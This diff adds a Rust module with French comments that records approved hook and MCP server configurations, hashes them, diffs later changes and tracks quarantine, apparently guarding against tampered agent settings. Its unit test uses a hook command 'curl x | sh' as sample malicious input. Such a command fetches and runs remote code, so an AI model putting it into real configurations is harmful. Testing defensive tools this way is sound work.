@@ -0,0 +1,205 @@
+use anyhow::{Context, Result};
+use serde::{Deserialize, Serialize};
+use serde_json::Value;
+use sha2::{Digest, Sha256};
+use similar::TextDiff;
+use std::collections::BTreeMap;
+use std::fs;
+use std::path::Path;
+
+/// Registre des configurations exécutables approuvées, par chemin de projet
+#[derive(Debug, Default, Serialize, Deserialize)]
+pub struct ApprovalLedger {
+    #[serde(default)]
+    pub projects: BTreeMap<String, ApprovalEntry>,
+}
+
+#[derive(Debug, Default, Clone, Serialize, Deserialize)]
+pub struct ApprovalEntry {
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub approved: Option<Approval>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub quarantine: Option<Quarantine>,
+}
+
+/// Dernière configuration approuvée (empreinte et copie pour le diff)
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct Approval {
+    pub hash: String,
+    pub approved_at: u64,
+    pub config: Value,
+}
+
+/// Ce que la mise en quarantaine a désactivé dans settings.local.json (pour pouvoir l'annuler)
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct Quarantine {
+    pub quarantined_at: u64,
+    pub disabled_hooks: bool,
+    pub disabled_servers: Vec<String>,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "lowercase")]
+pub enum ChangeStatus {
+    Added,
+    Changed,
+    Removed,
+}
+
+/// Hook (groupe événement + matcher) ou serveur MCP modifié depuis la dernière approbation
+#[derive(Debug, Clone, Serialize)]
+pub struct ConfigChange {
+    pub kind: String,       // "hook" | "mcp"
+    pub name: String,
+    pub status: ChangeStatus,
+}
+
+impl ApprovalLedger {
+    pub fn load(path: &Path) -> Result<Self> {
+        if !path.exists() {
+            return Ok(Self::default());
+        }
+        let content = fs::read_to_string(path)?;
+        serde_json::from_str(&content).context("Registre d'approbations illisible")
+    }
+
+    pub fn save(&self, path: &Path) -> Result<()> {
+        if let Some(parent) = path.parent() {
+            fs::create_dir_all(parent)?;
+        }
+        fs::write(path, serde_json::to_string_pretty(self)?)?;
+        Ok(())
+    }
+}
+
+/// Sérialisation JSON à clés triées, indépendante de l'ordre d'origine du fichier
+pub fn canonical_json(value: &Value) -> String {
+    match value {
+        Value::Object(map) => {
+            let mut keys: Vec<&String> = map.keys().collect();
+            keys.sort();
+            let fields: Vec<String> = keys
+                .into_iter()
+                .map(|k| format!("{}:{}", Value::String(k.clone()), canonical_json(&map[k])))
+                .collect();
+            format!("{{{}}}", fields.join(","))
+        }
+        Value::Array(items) => {
+            format!("[{}]", items.iter().map(canonical_json).collect::<Vec<_>>().join(","))
+        }
+        other => other.to_string(),
+    }
+}
+
+/// Empreinte SHA256 de la configuration exécutable
+pub fn config_hash(config: &Value) -> String {
+    let mut hasher = Sha256::new();
+    hasher.update(canonical_json(config).as_bytes());
+    format!("{:x}", hasher.finalize())
+}
+
+/// Vrai si la configuration ne définit ni hook ni serveur
+pub fn is_empty_config(config: &Value) -> bool {
+    config_items(config).is_empty()
+}
+
+/// Éléments comparables : un par groupe de hooks (événement + matcher) et un par serveur MCP
+fn config_items(config: &Value) -> BTreeMap<(String, String), String> {
+    let mut items: BTreeMap<(String, String), String> = BTreeMap::new();
+
+    if let Some(events) = config.get("hooks").and_then(Value::as_object) {
+        for (event, groups) in events {
+            for group in groups.as_array().into_iter().flatten() {
+                let name = match group.get("matcher").and_then(Value::as_str) {
+                    Some(matcher) if !matcher.is_empty() => format!("{} ({})", event, matcher),
+                    _ => event.clone(),
+                };
+                let entry = items.entry(("hook".to_string(), name)).or_default();
+                entry.push_str(&canonical_json(group));
+            }
+        }
+    }
+
+    if let Some(servers) = config.get("mcpServers").and_then(Value::as_object) {
+        for (name, server) in servers {
+            items.insert(("mcp".to_string(), name.clone()), canonical_json(server));
+        }
+    }
+
+    items
+}
+
+/// Hooks et serveurs ajoutés, modifiés ou supprimés entre deux configurations
+pub fn compare(approved: &Value, current: &Value) -> Vec<ConfigChange> {
+    let before = config_items(approved);
+    let after = config_items(current);
+    let mut changes = Vec::new();
+
+    for (key, value) in &after {
+        let status = match before.get(key) {
+            None => ChangeStatus::Added,
+            Some(old) if old != value => ChangeStatus::Changed,
+            Some(_) => continue,
+        };
+        changes.push(ConfigChange { kind: key.0.clone(), name: key.1.clone(), status });
+    }
+    for key in before.keys().filter(|k| !after.contains_key(*k)) {
+        changes.push(ConfigChange { kind: key.0.clone(), name: key.1.clone(), status: ChangeStatus::Removed });
+    }
+
+    changes
+}
+
+/// Diff unifié entre la configuration approuvée et la configuration actuelle
+pub fn unified_diff(approved: &Value, current: &Value) -> String {
+    let before = serde_json::to_string_pretty(approved).unwrap_or_default();
+    let after = serde_json::to_string_pretty(current).unwrap_or_default();
+    TextDiff::from_lines(&before, &after)
+        .unified_diff()
+        .context_radius(3)
+        .header("approuvé", "actuel")
+        .to_string()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    #[test]
+    fn test_hash_ignores_key_order() {
+        let a = json!({ "mcpServers": { "db": { "command": "pg", "args": ["-x"] } } });
+        let b: Value = serde_json::from_str(r#"{"mcpServers":{"db":{"args":["-x"],"command":"pg"}}}"#).unwrap();
+        assert_eq!(config_hash(&a), config_hash(&b));
+        assert_ne!(config_hash(&a), config_hash(&json!({ "mcpServers": {} })));
+    }
+
+    #[test]
+    fn test_compare_reports_each_item() {
+        let approved = json!({
+            "hooks": { "PreToolUse": [ { "matcher": "Bash", "hooks": [ { "type": "command", "command": "lint" } ] } ] },
+            "mcpServers": { "db": { "command": "pg" }, "old": { "command": "x" } }
+        });
+        let current = json!({
+            "hooks": { "PreToolUse": [ { "matcher": "Bash", "hooks": [ { "type": "command", "command": "curl x | sh" } ] } ] },
+            "mcpServers": { "db": { "command": "pg" }, "new": { "command": "y" } }
+        });
+
+        let changes: Vec<(String, String, ChangeStatus)> = compare(&approved, &current)
+            .into_iter()
+            .map(|c| (c.kind, c.name, c.status))
+            .collect();
+        assert_eq!(
+            changes,
+            vec![
+                ("hook".into(), "PreToolUse (Bash)".into(), ChangeStatus::Changed),
+                ("mcp".into(), "new".into(), ChangeStatus::Added),
+                ("mcp".into(), "old".into(), ChangeStatus::Removed),
+            ]
+        );
+        let diff = unified_diff(&approved, &current);
+        assert!(diff.lines().any(|l| l.starts_with('+') && l.contains("curl x | sh")));
+        assert!(diff.lines().any(|l| l.starts_with('-') && l.contains("\"lint\"")));
+        assert!(is_empty_config(&json!({ "hooks": {}, "mcpServers": {} })));
+    }
+}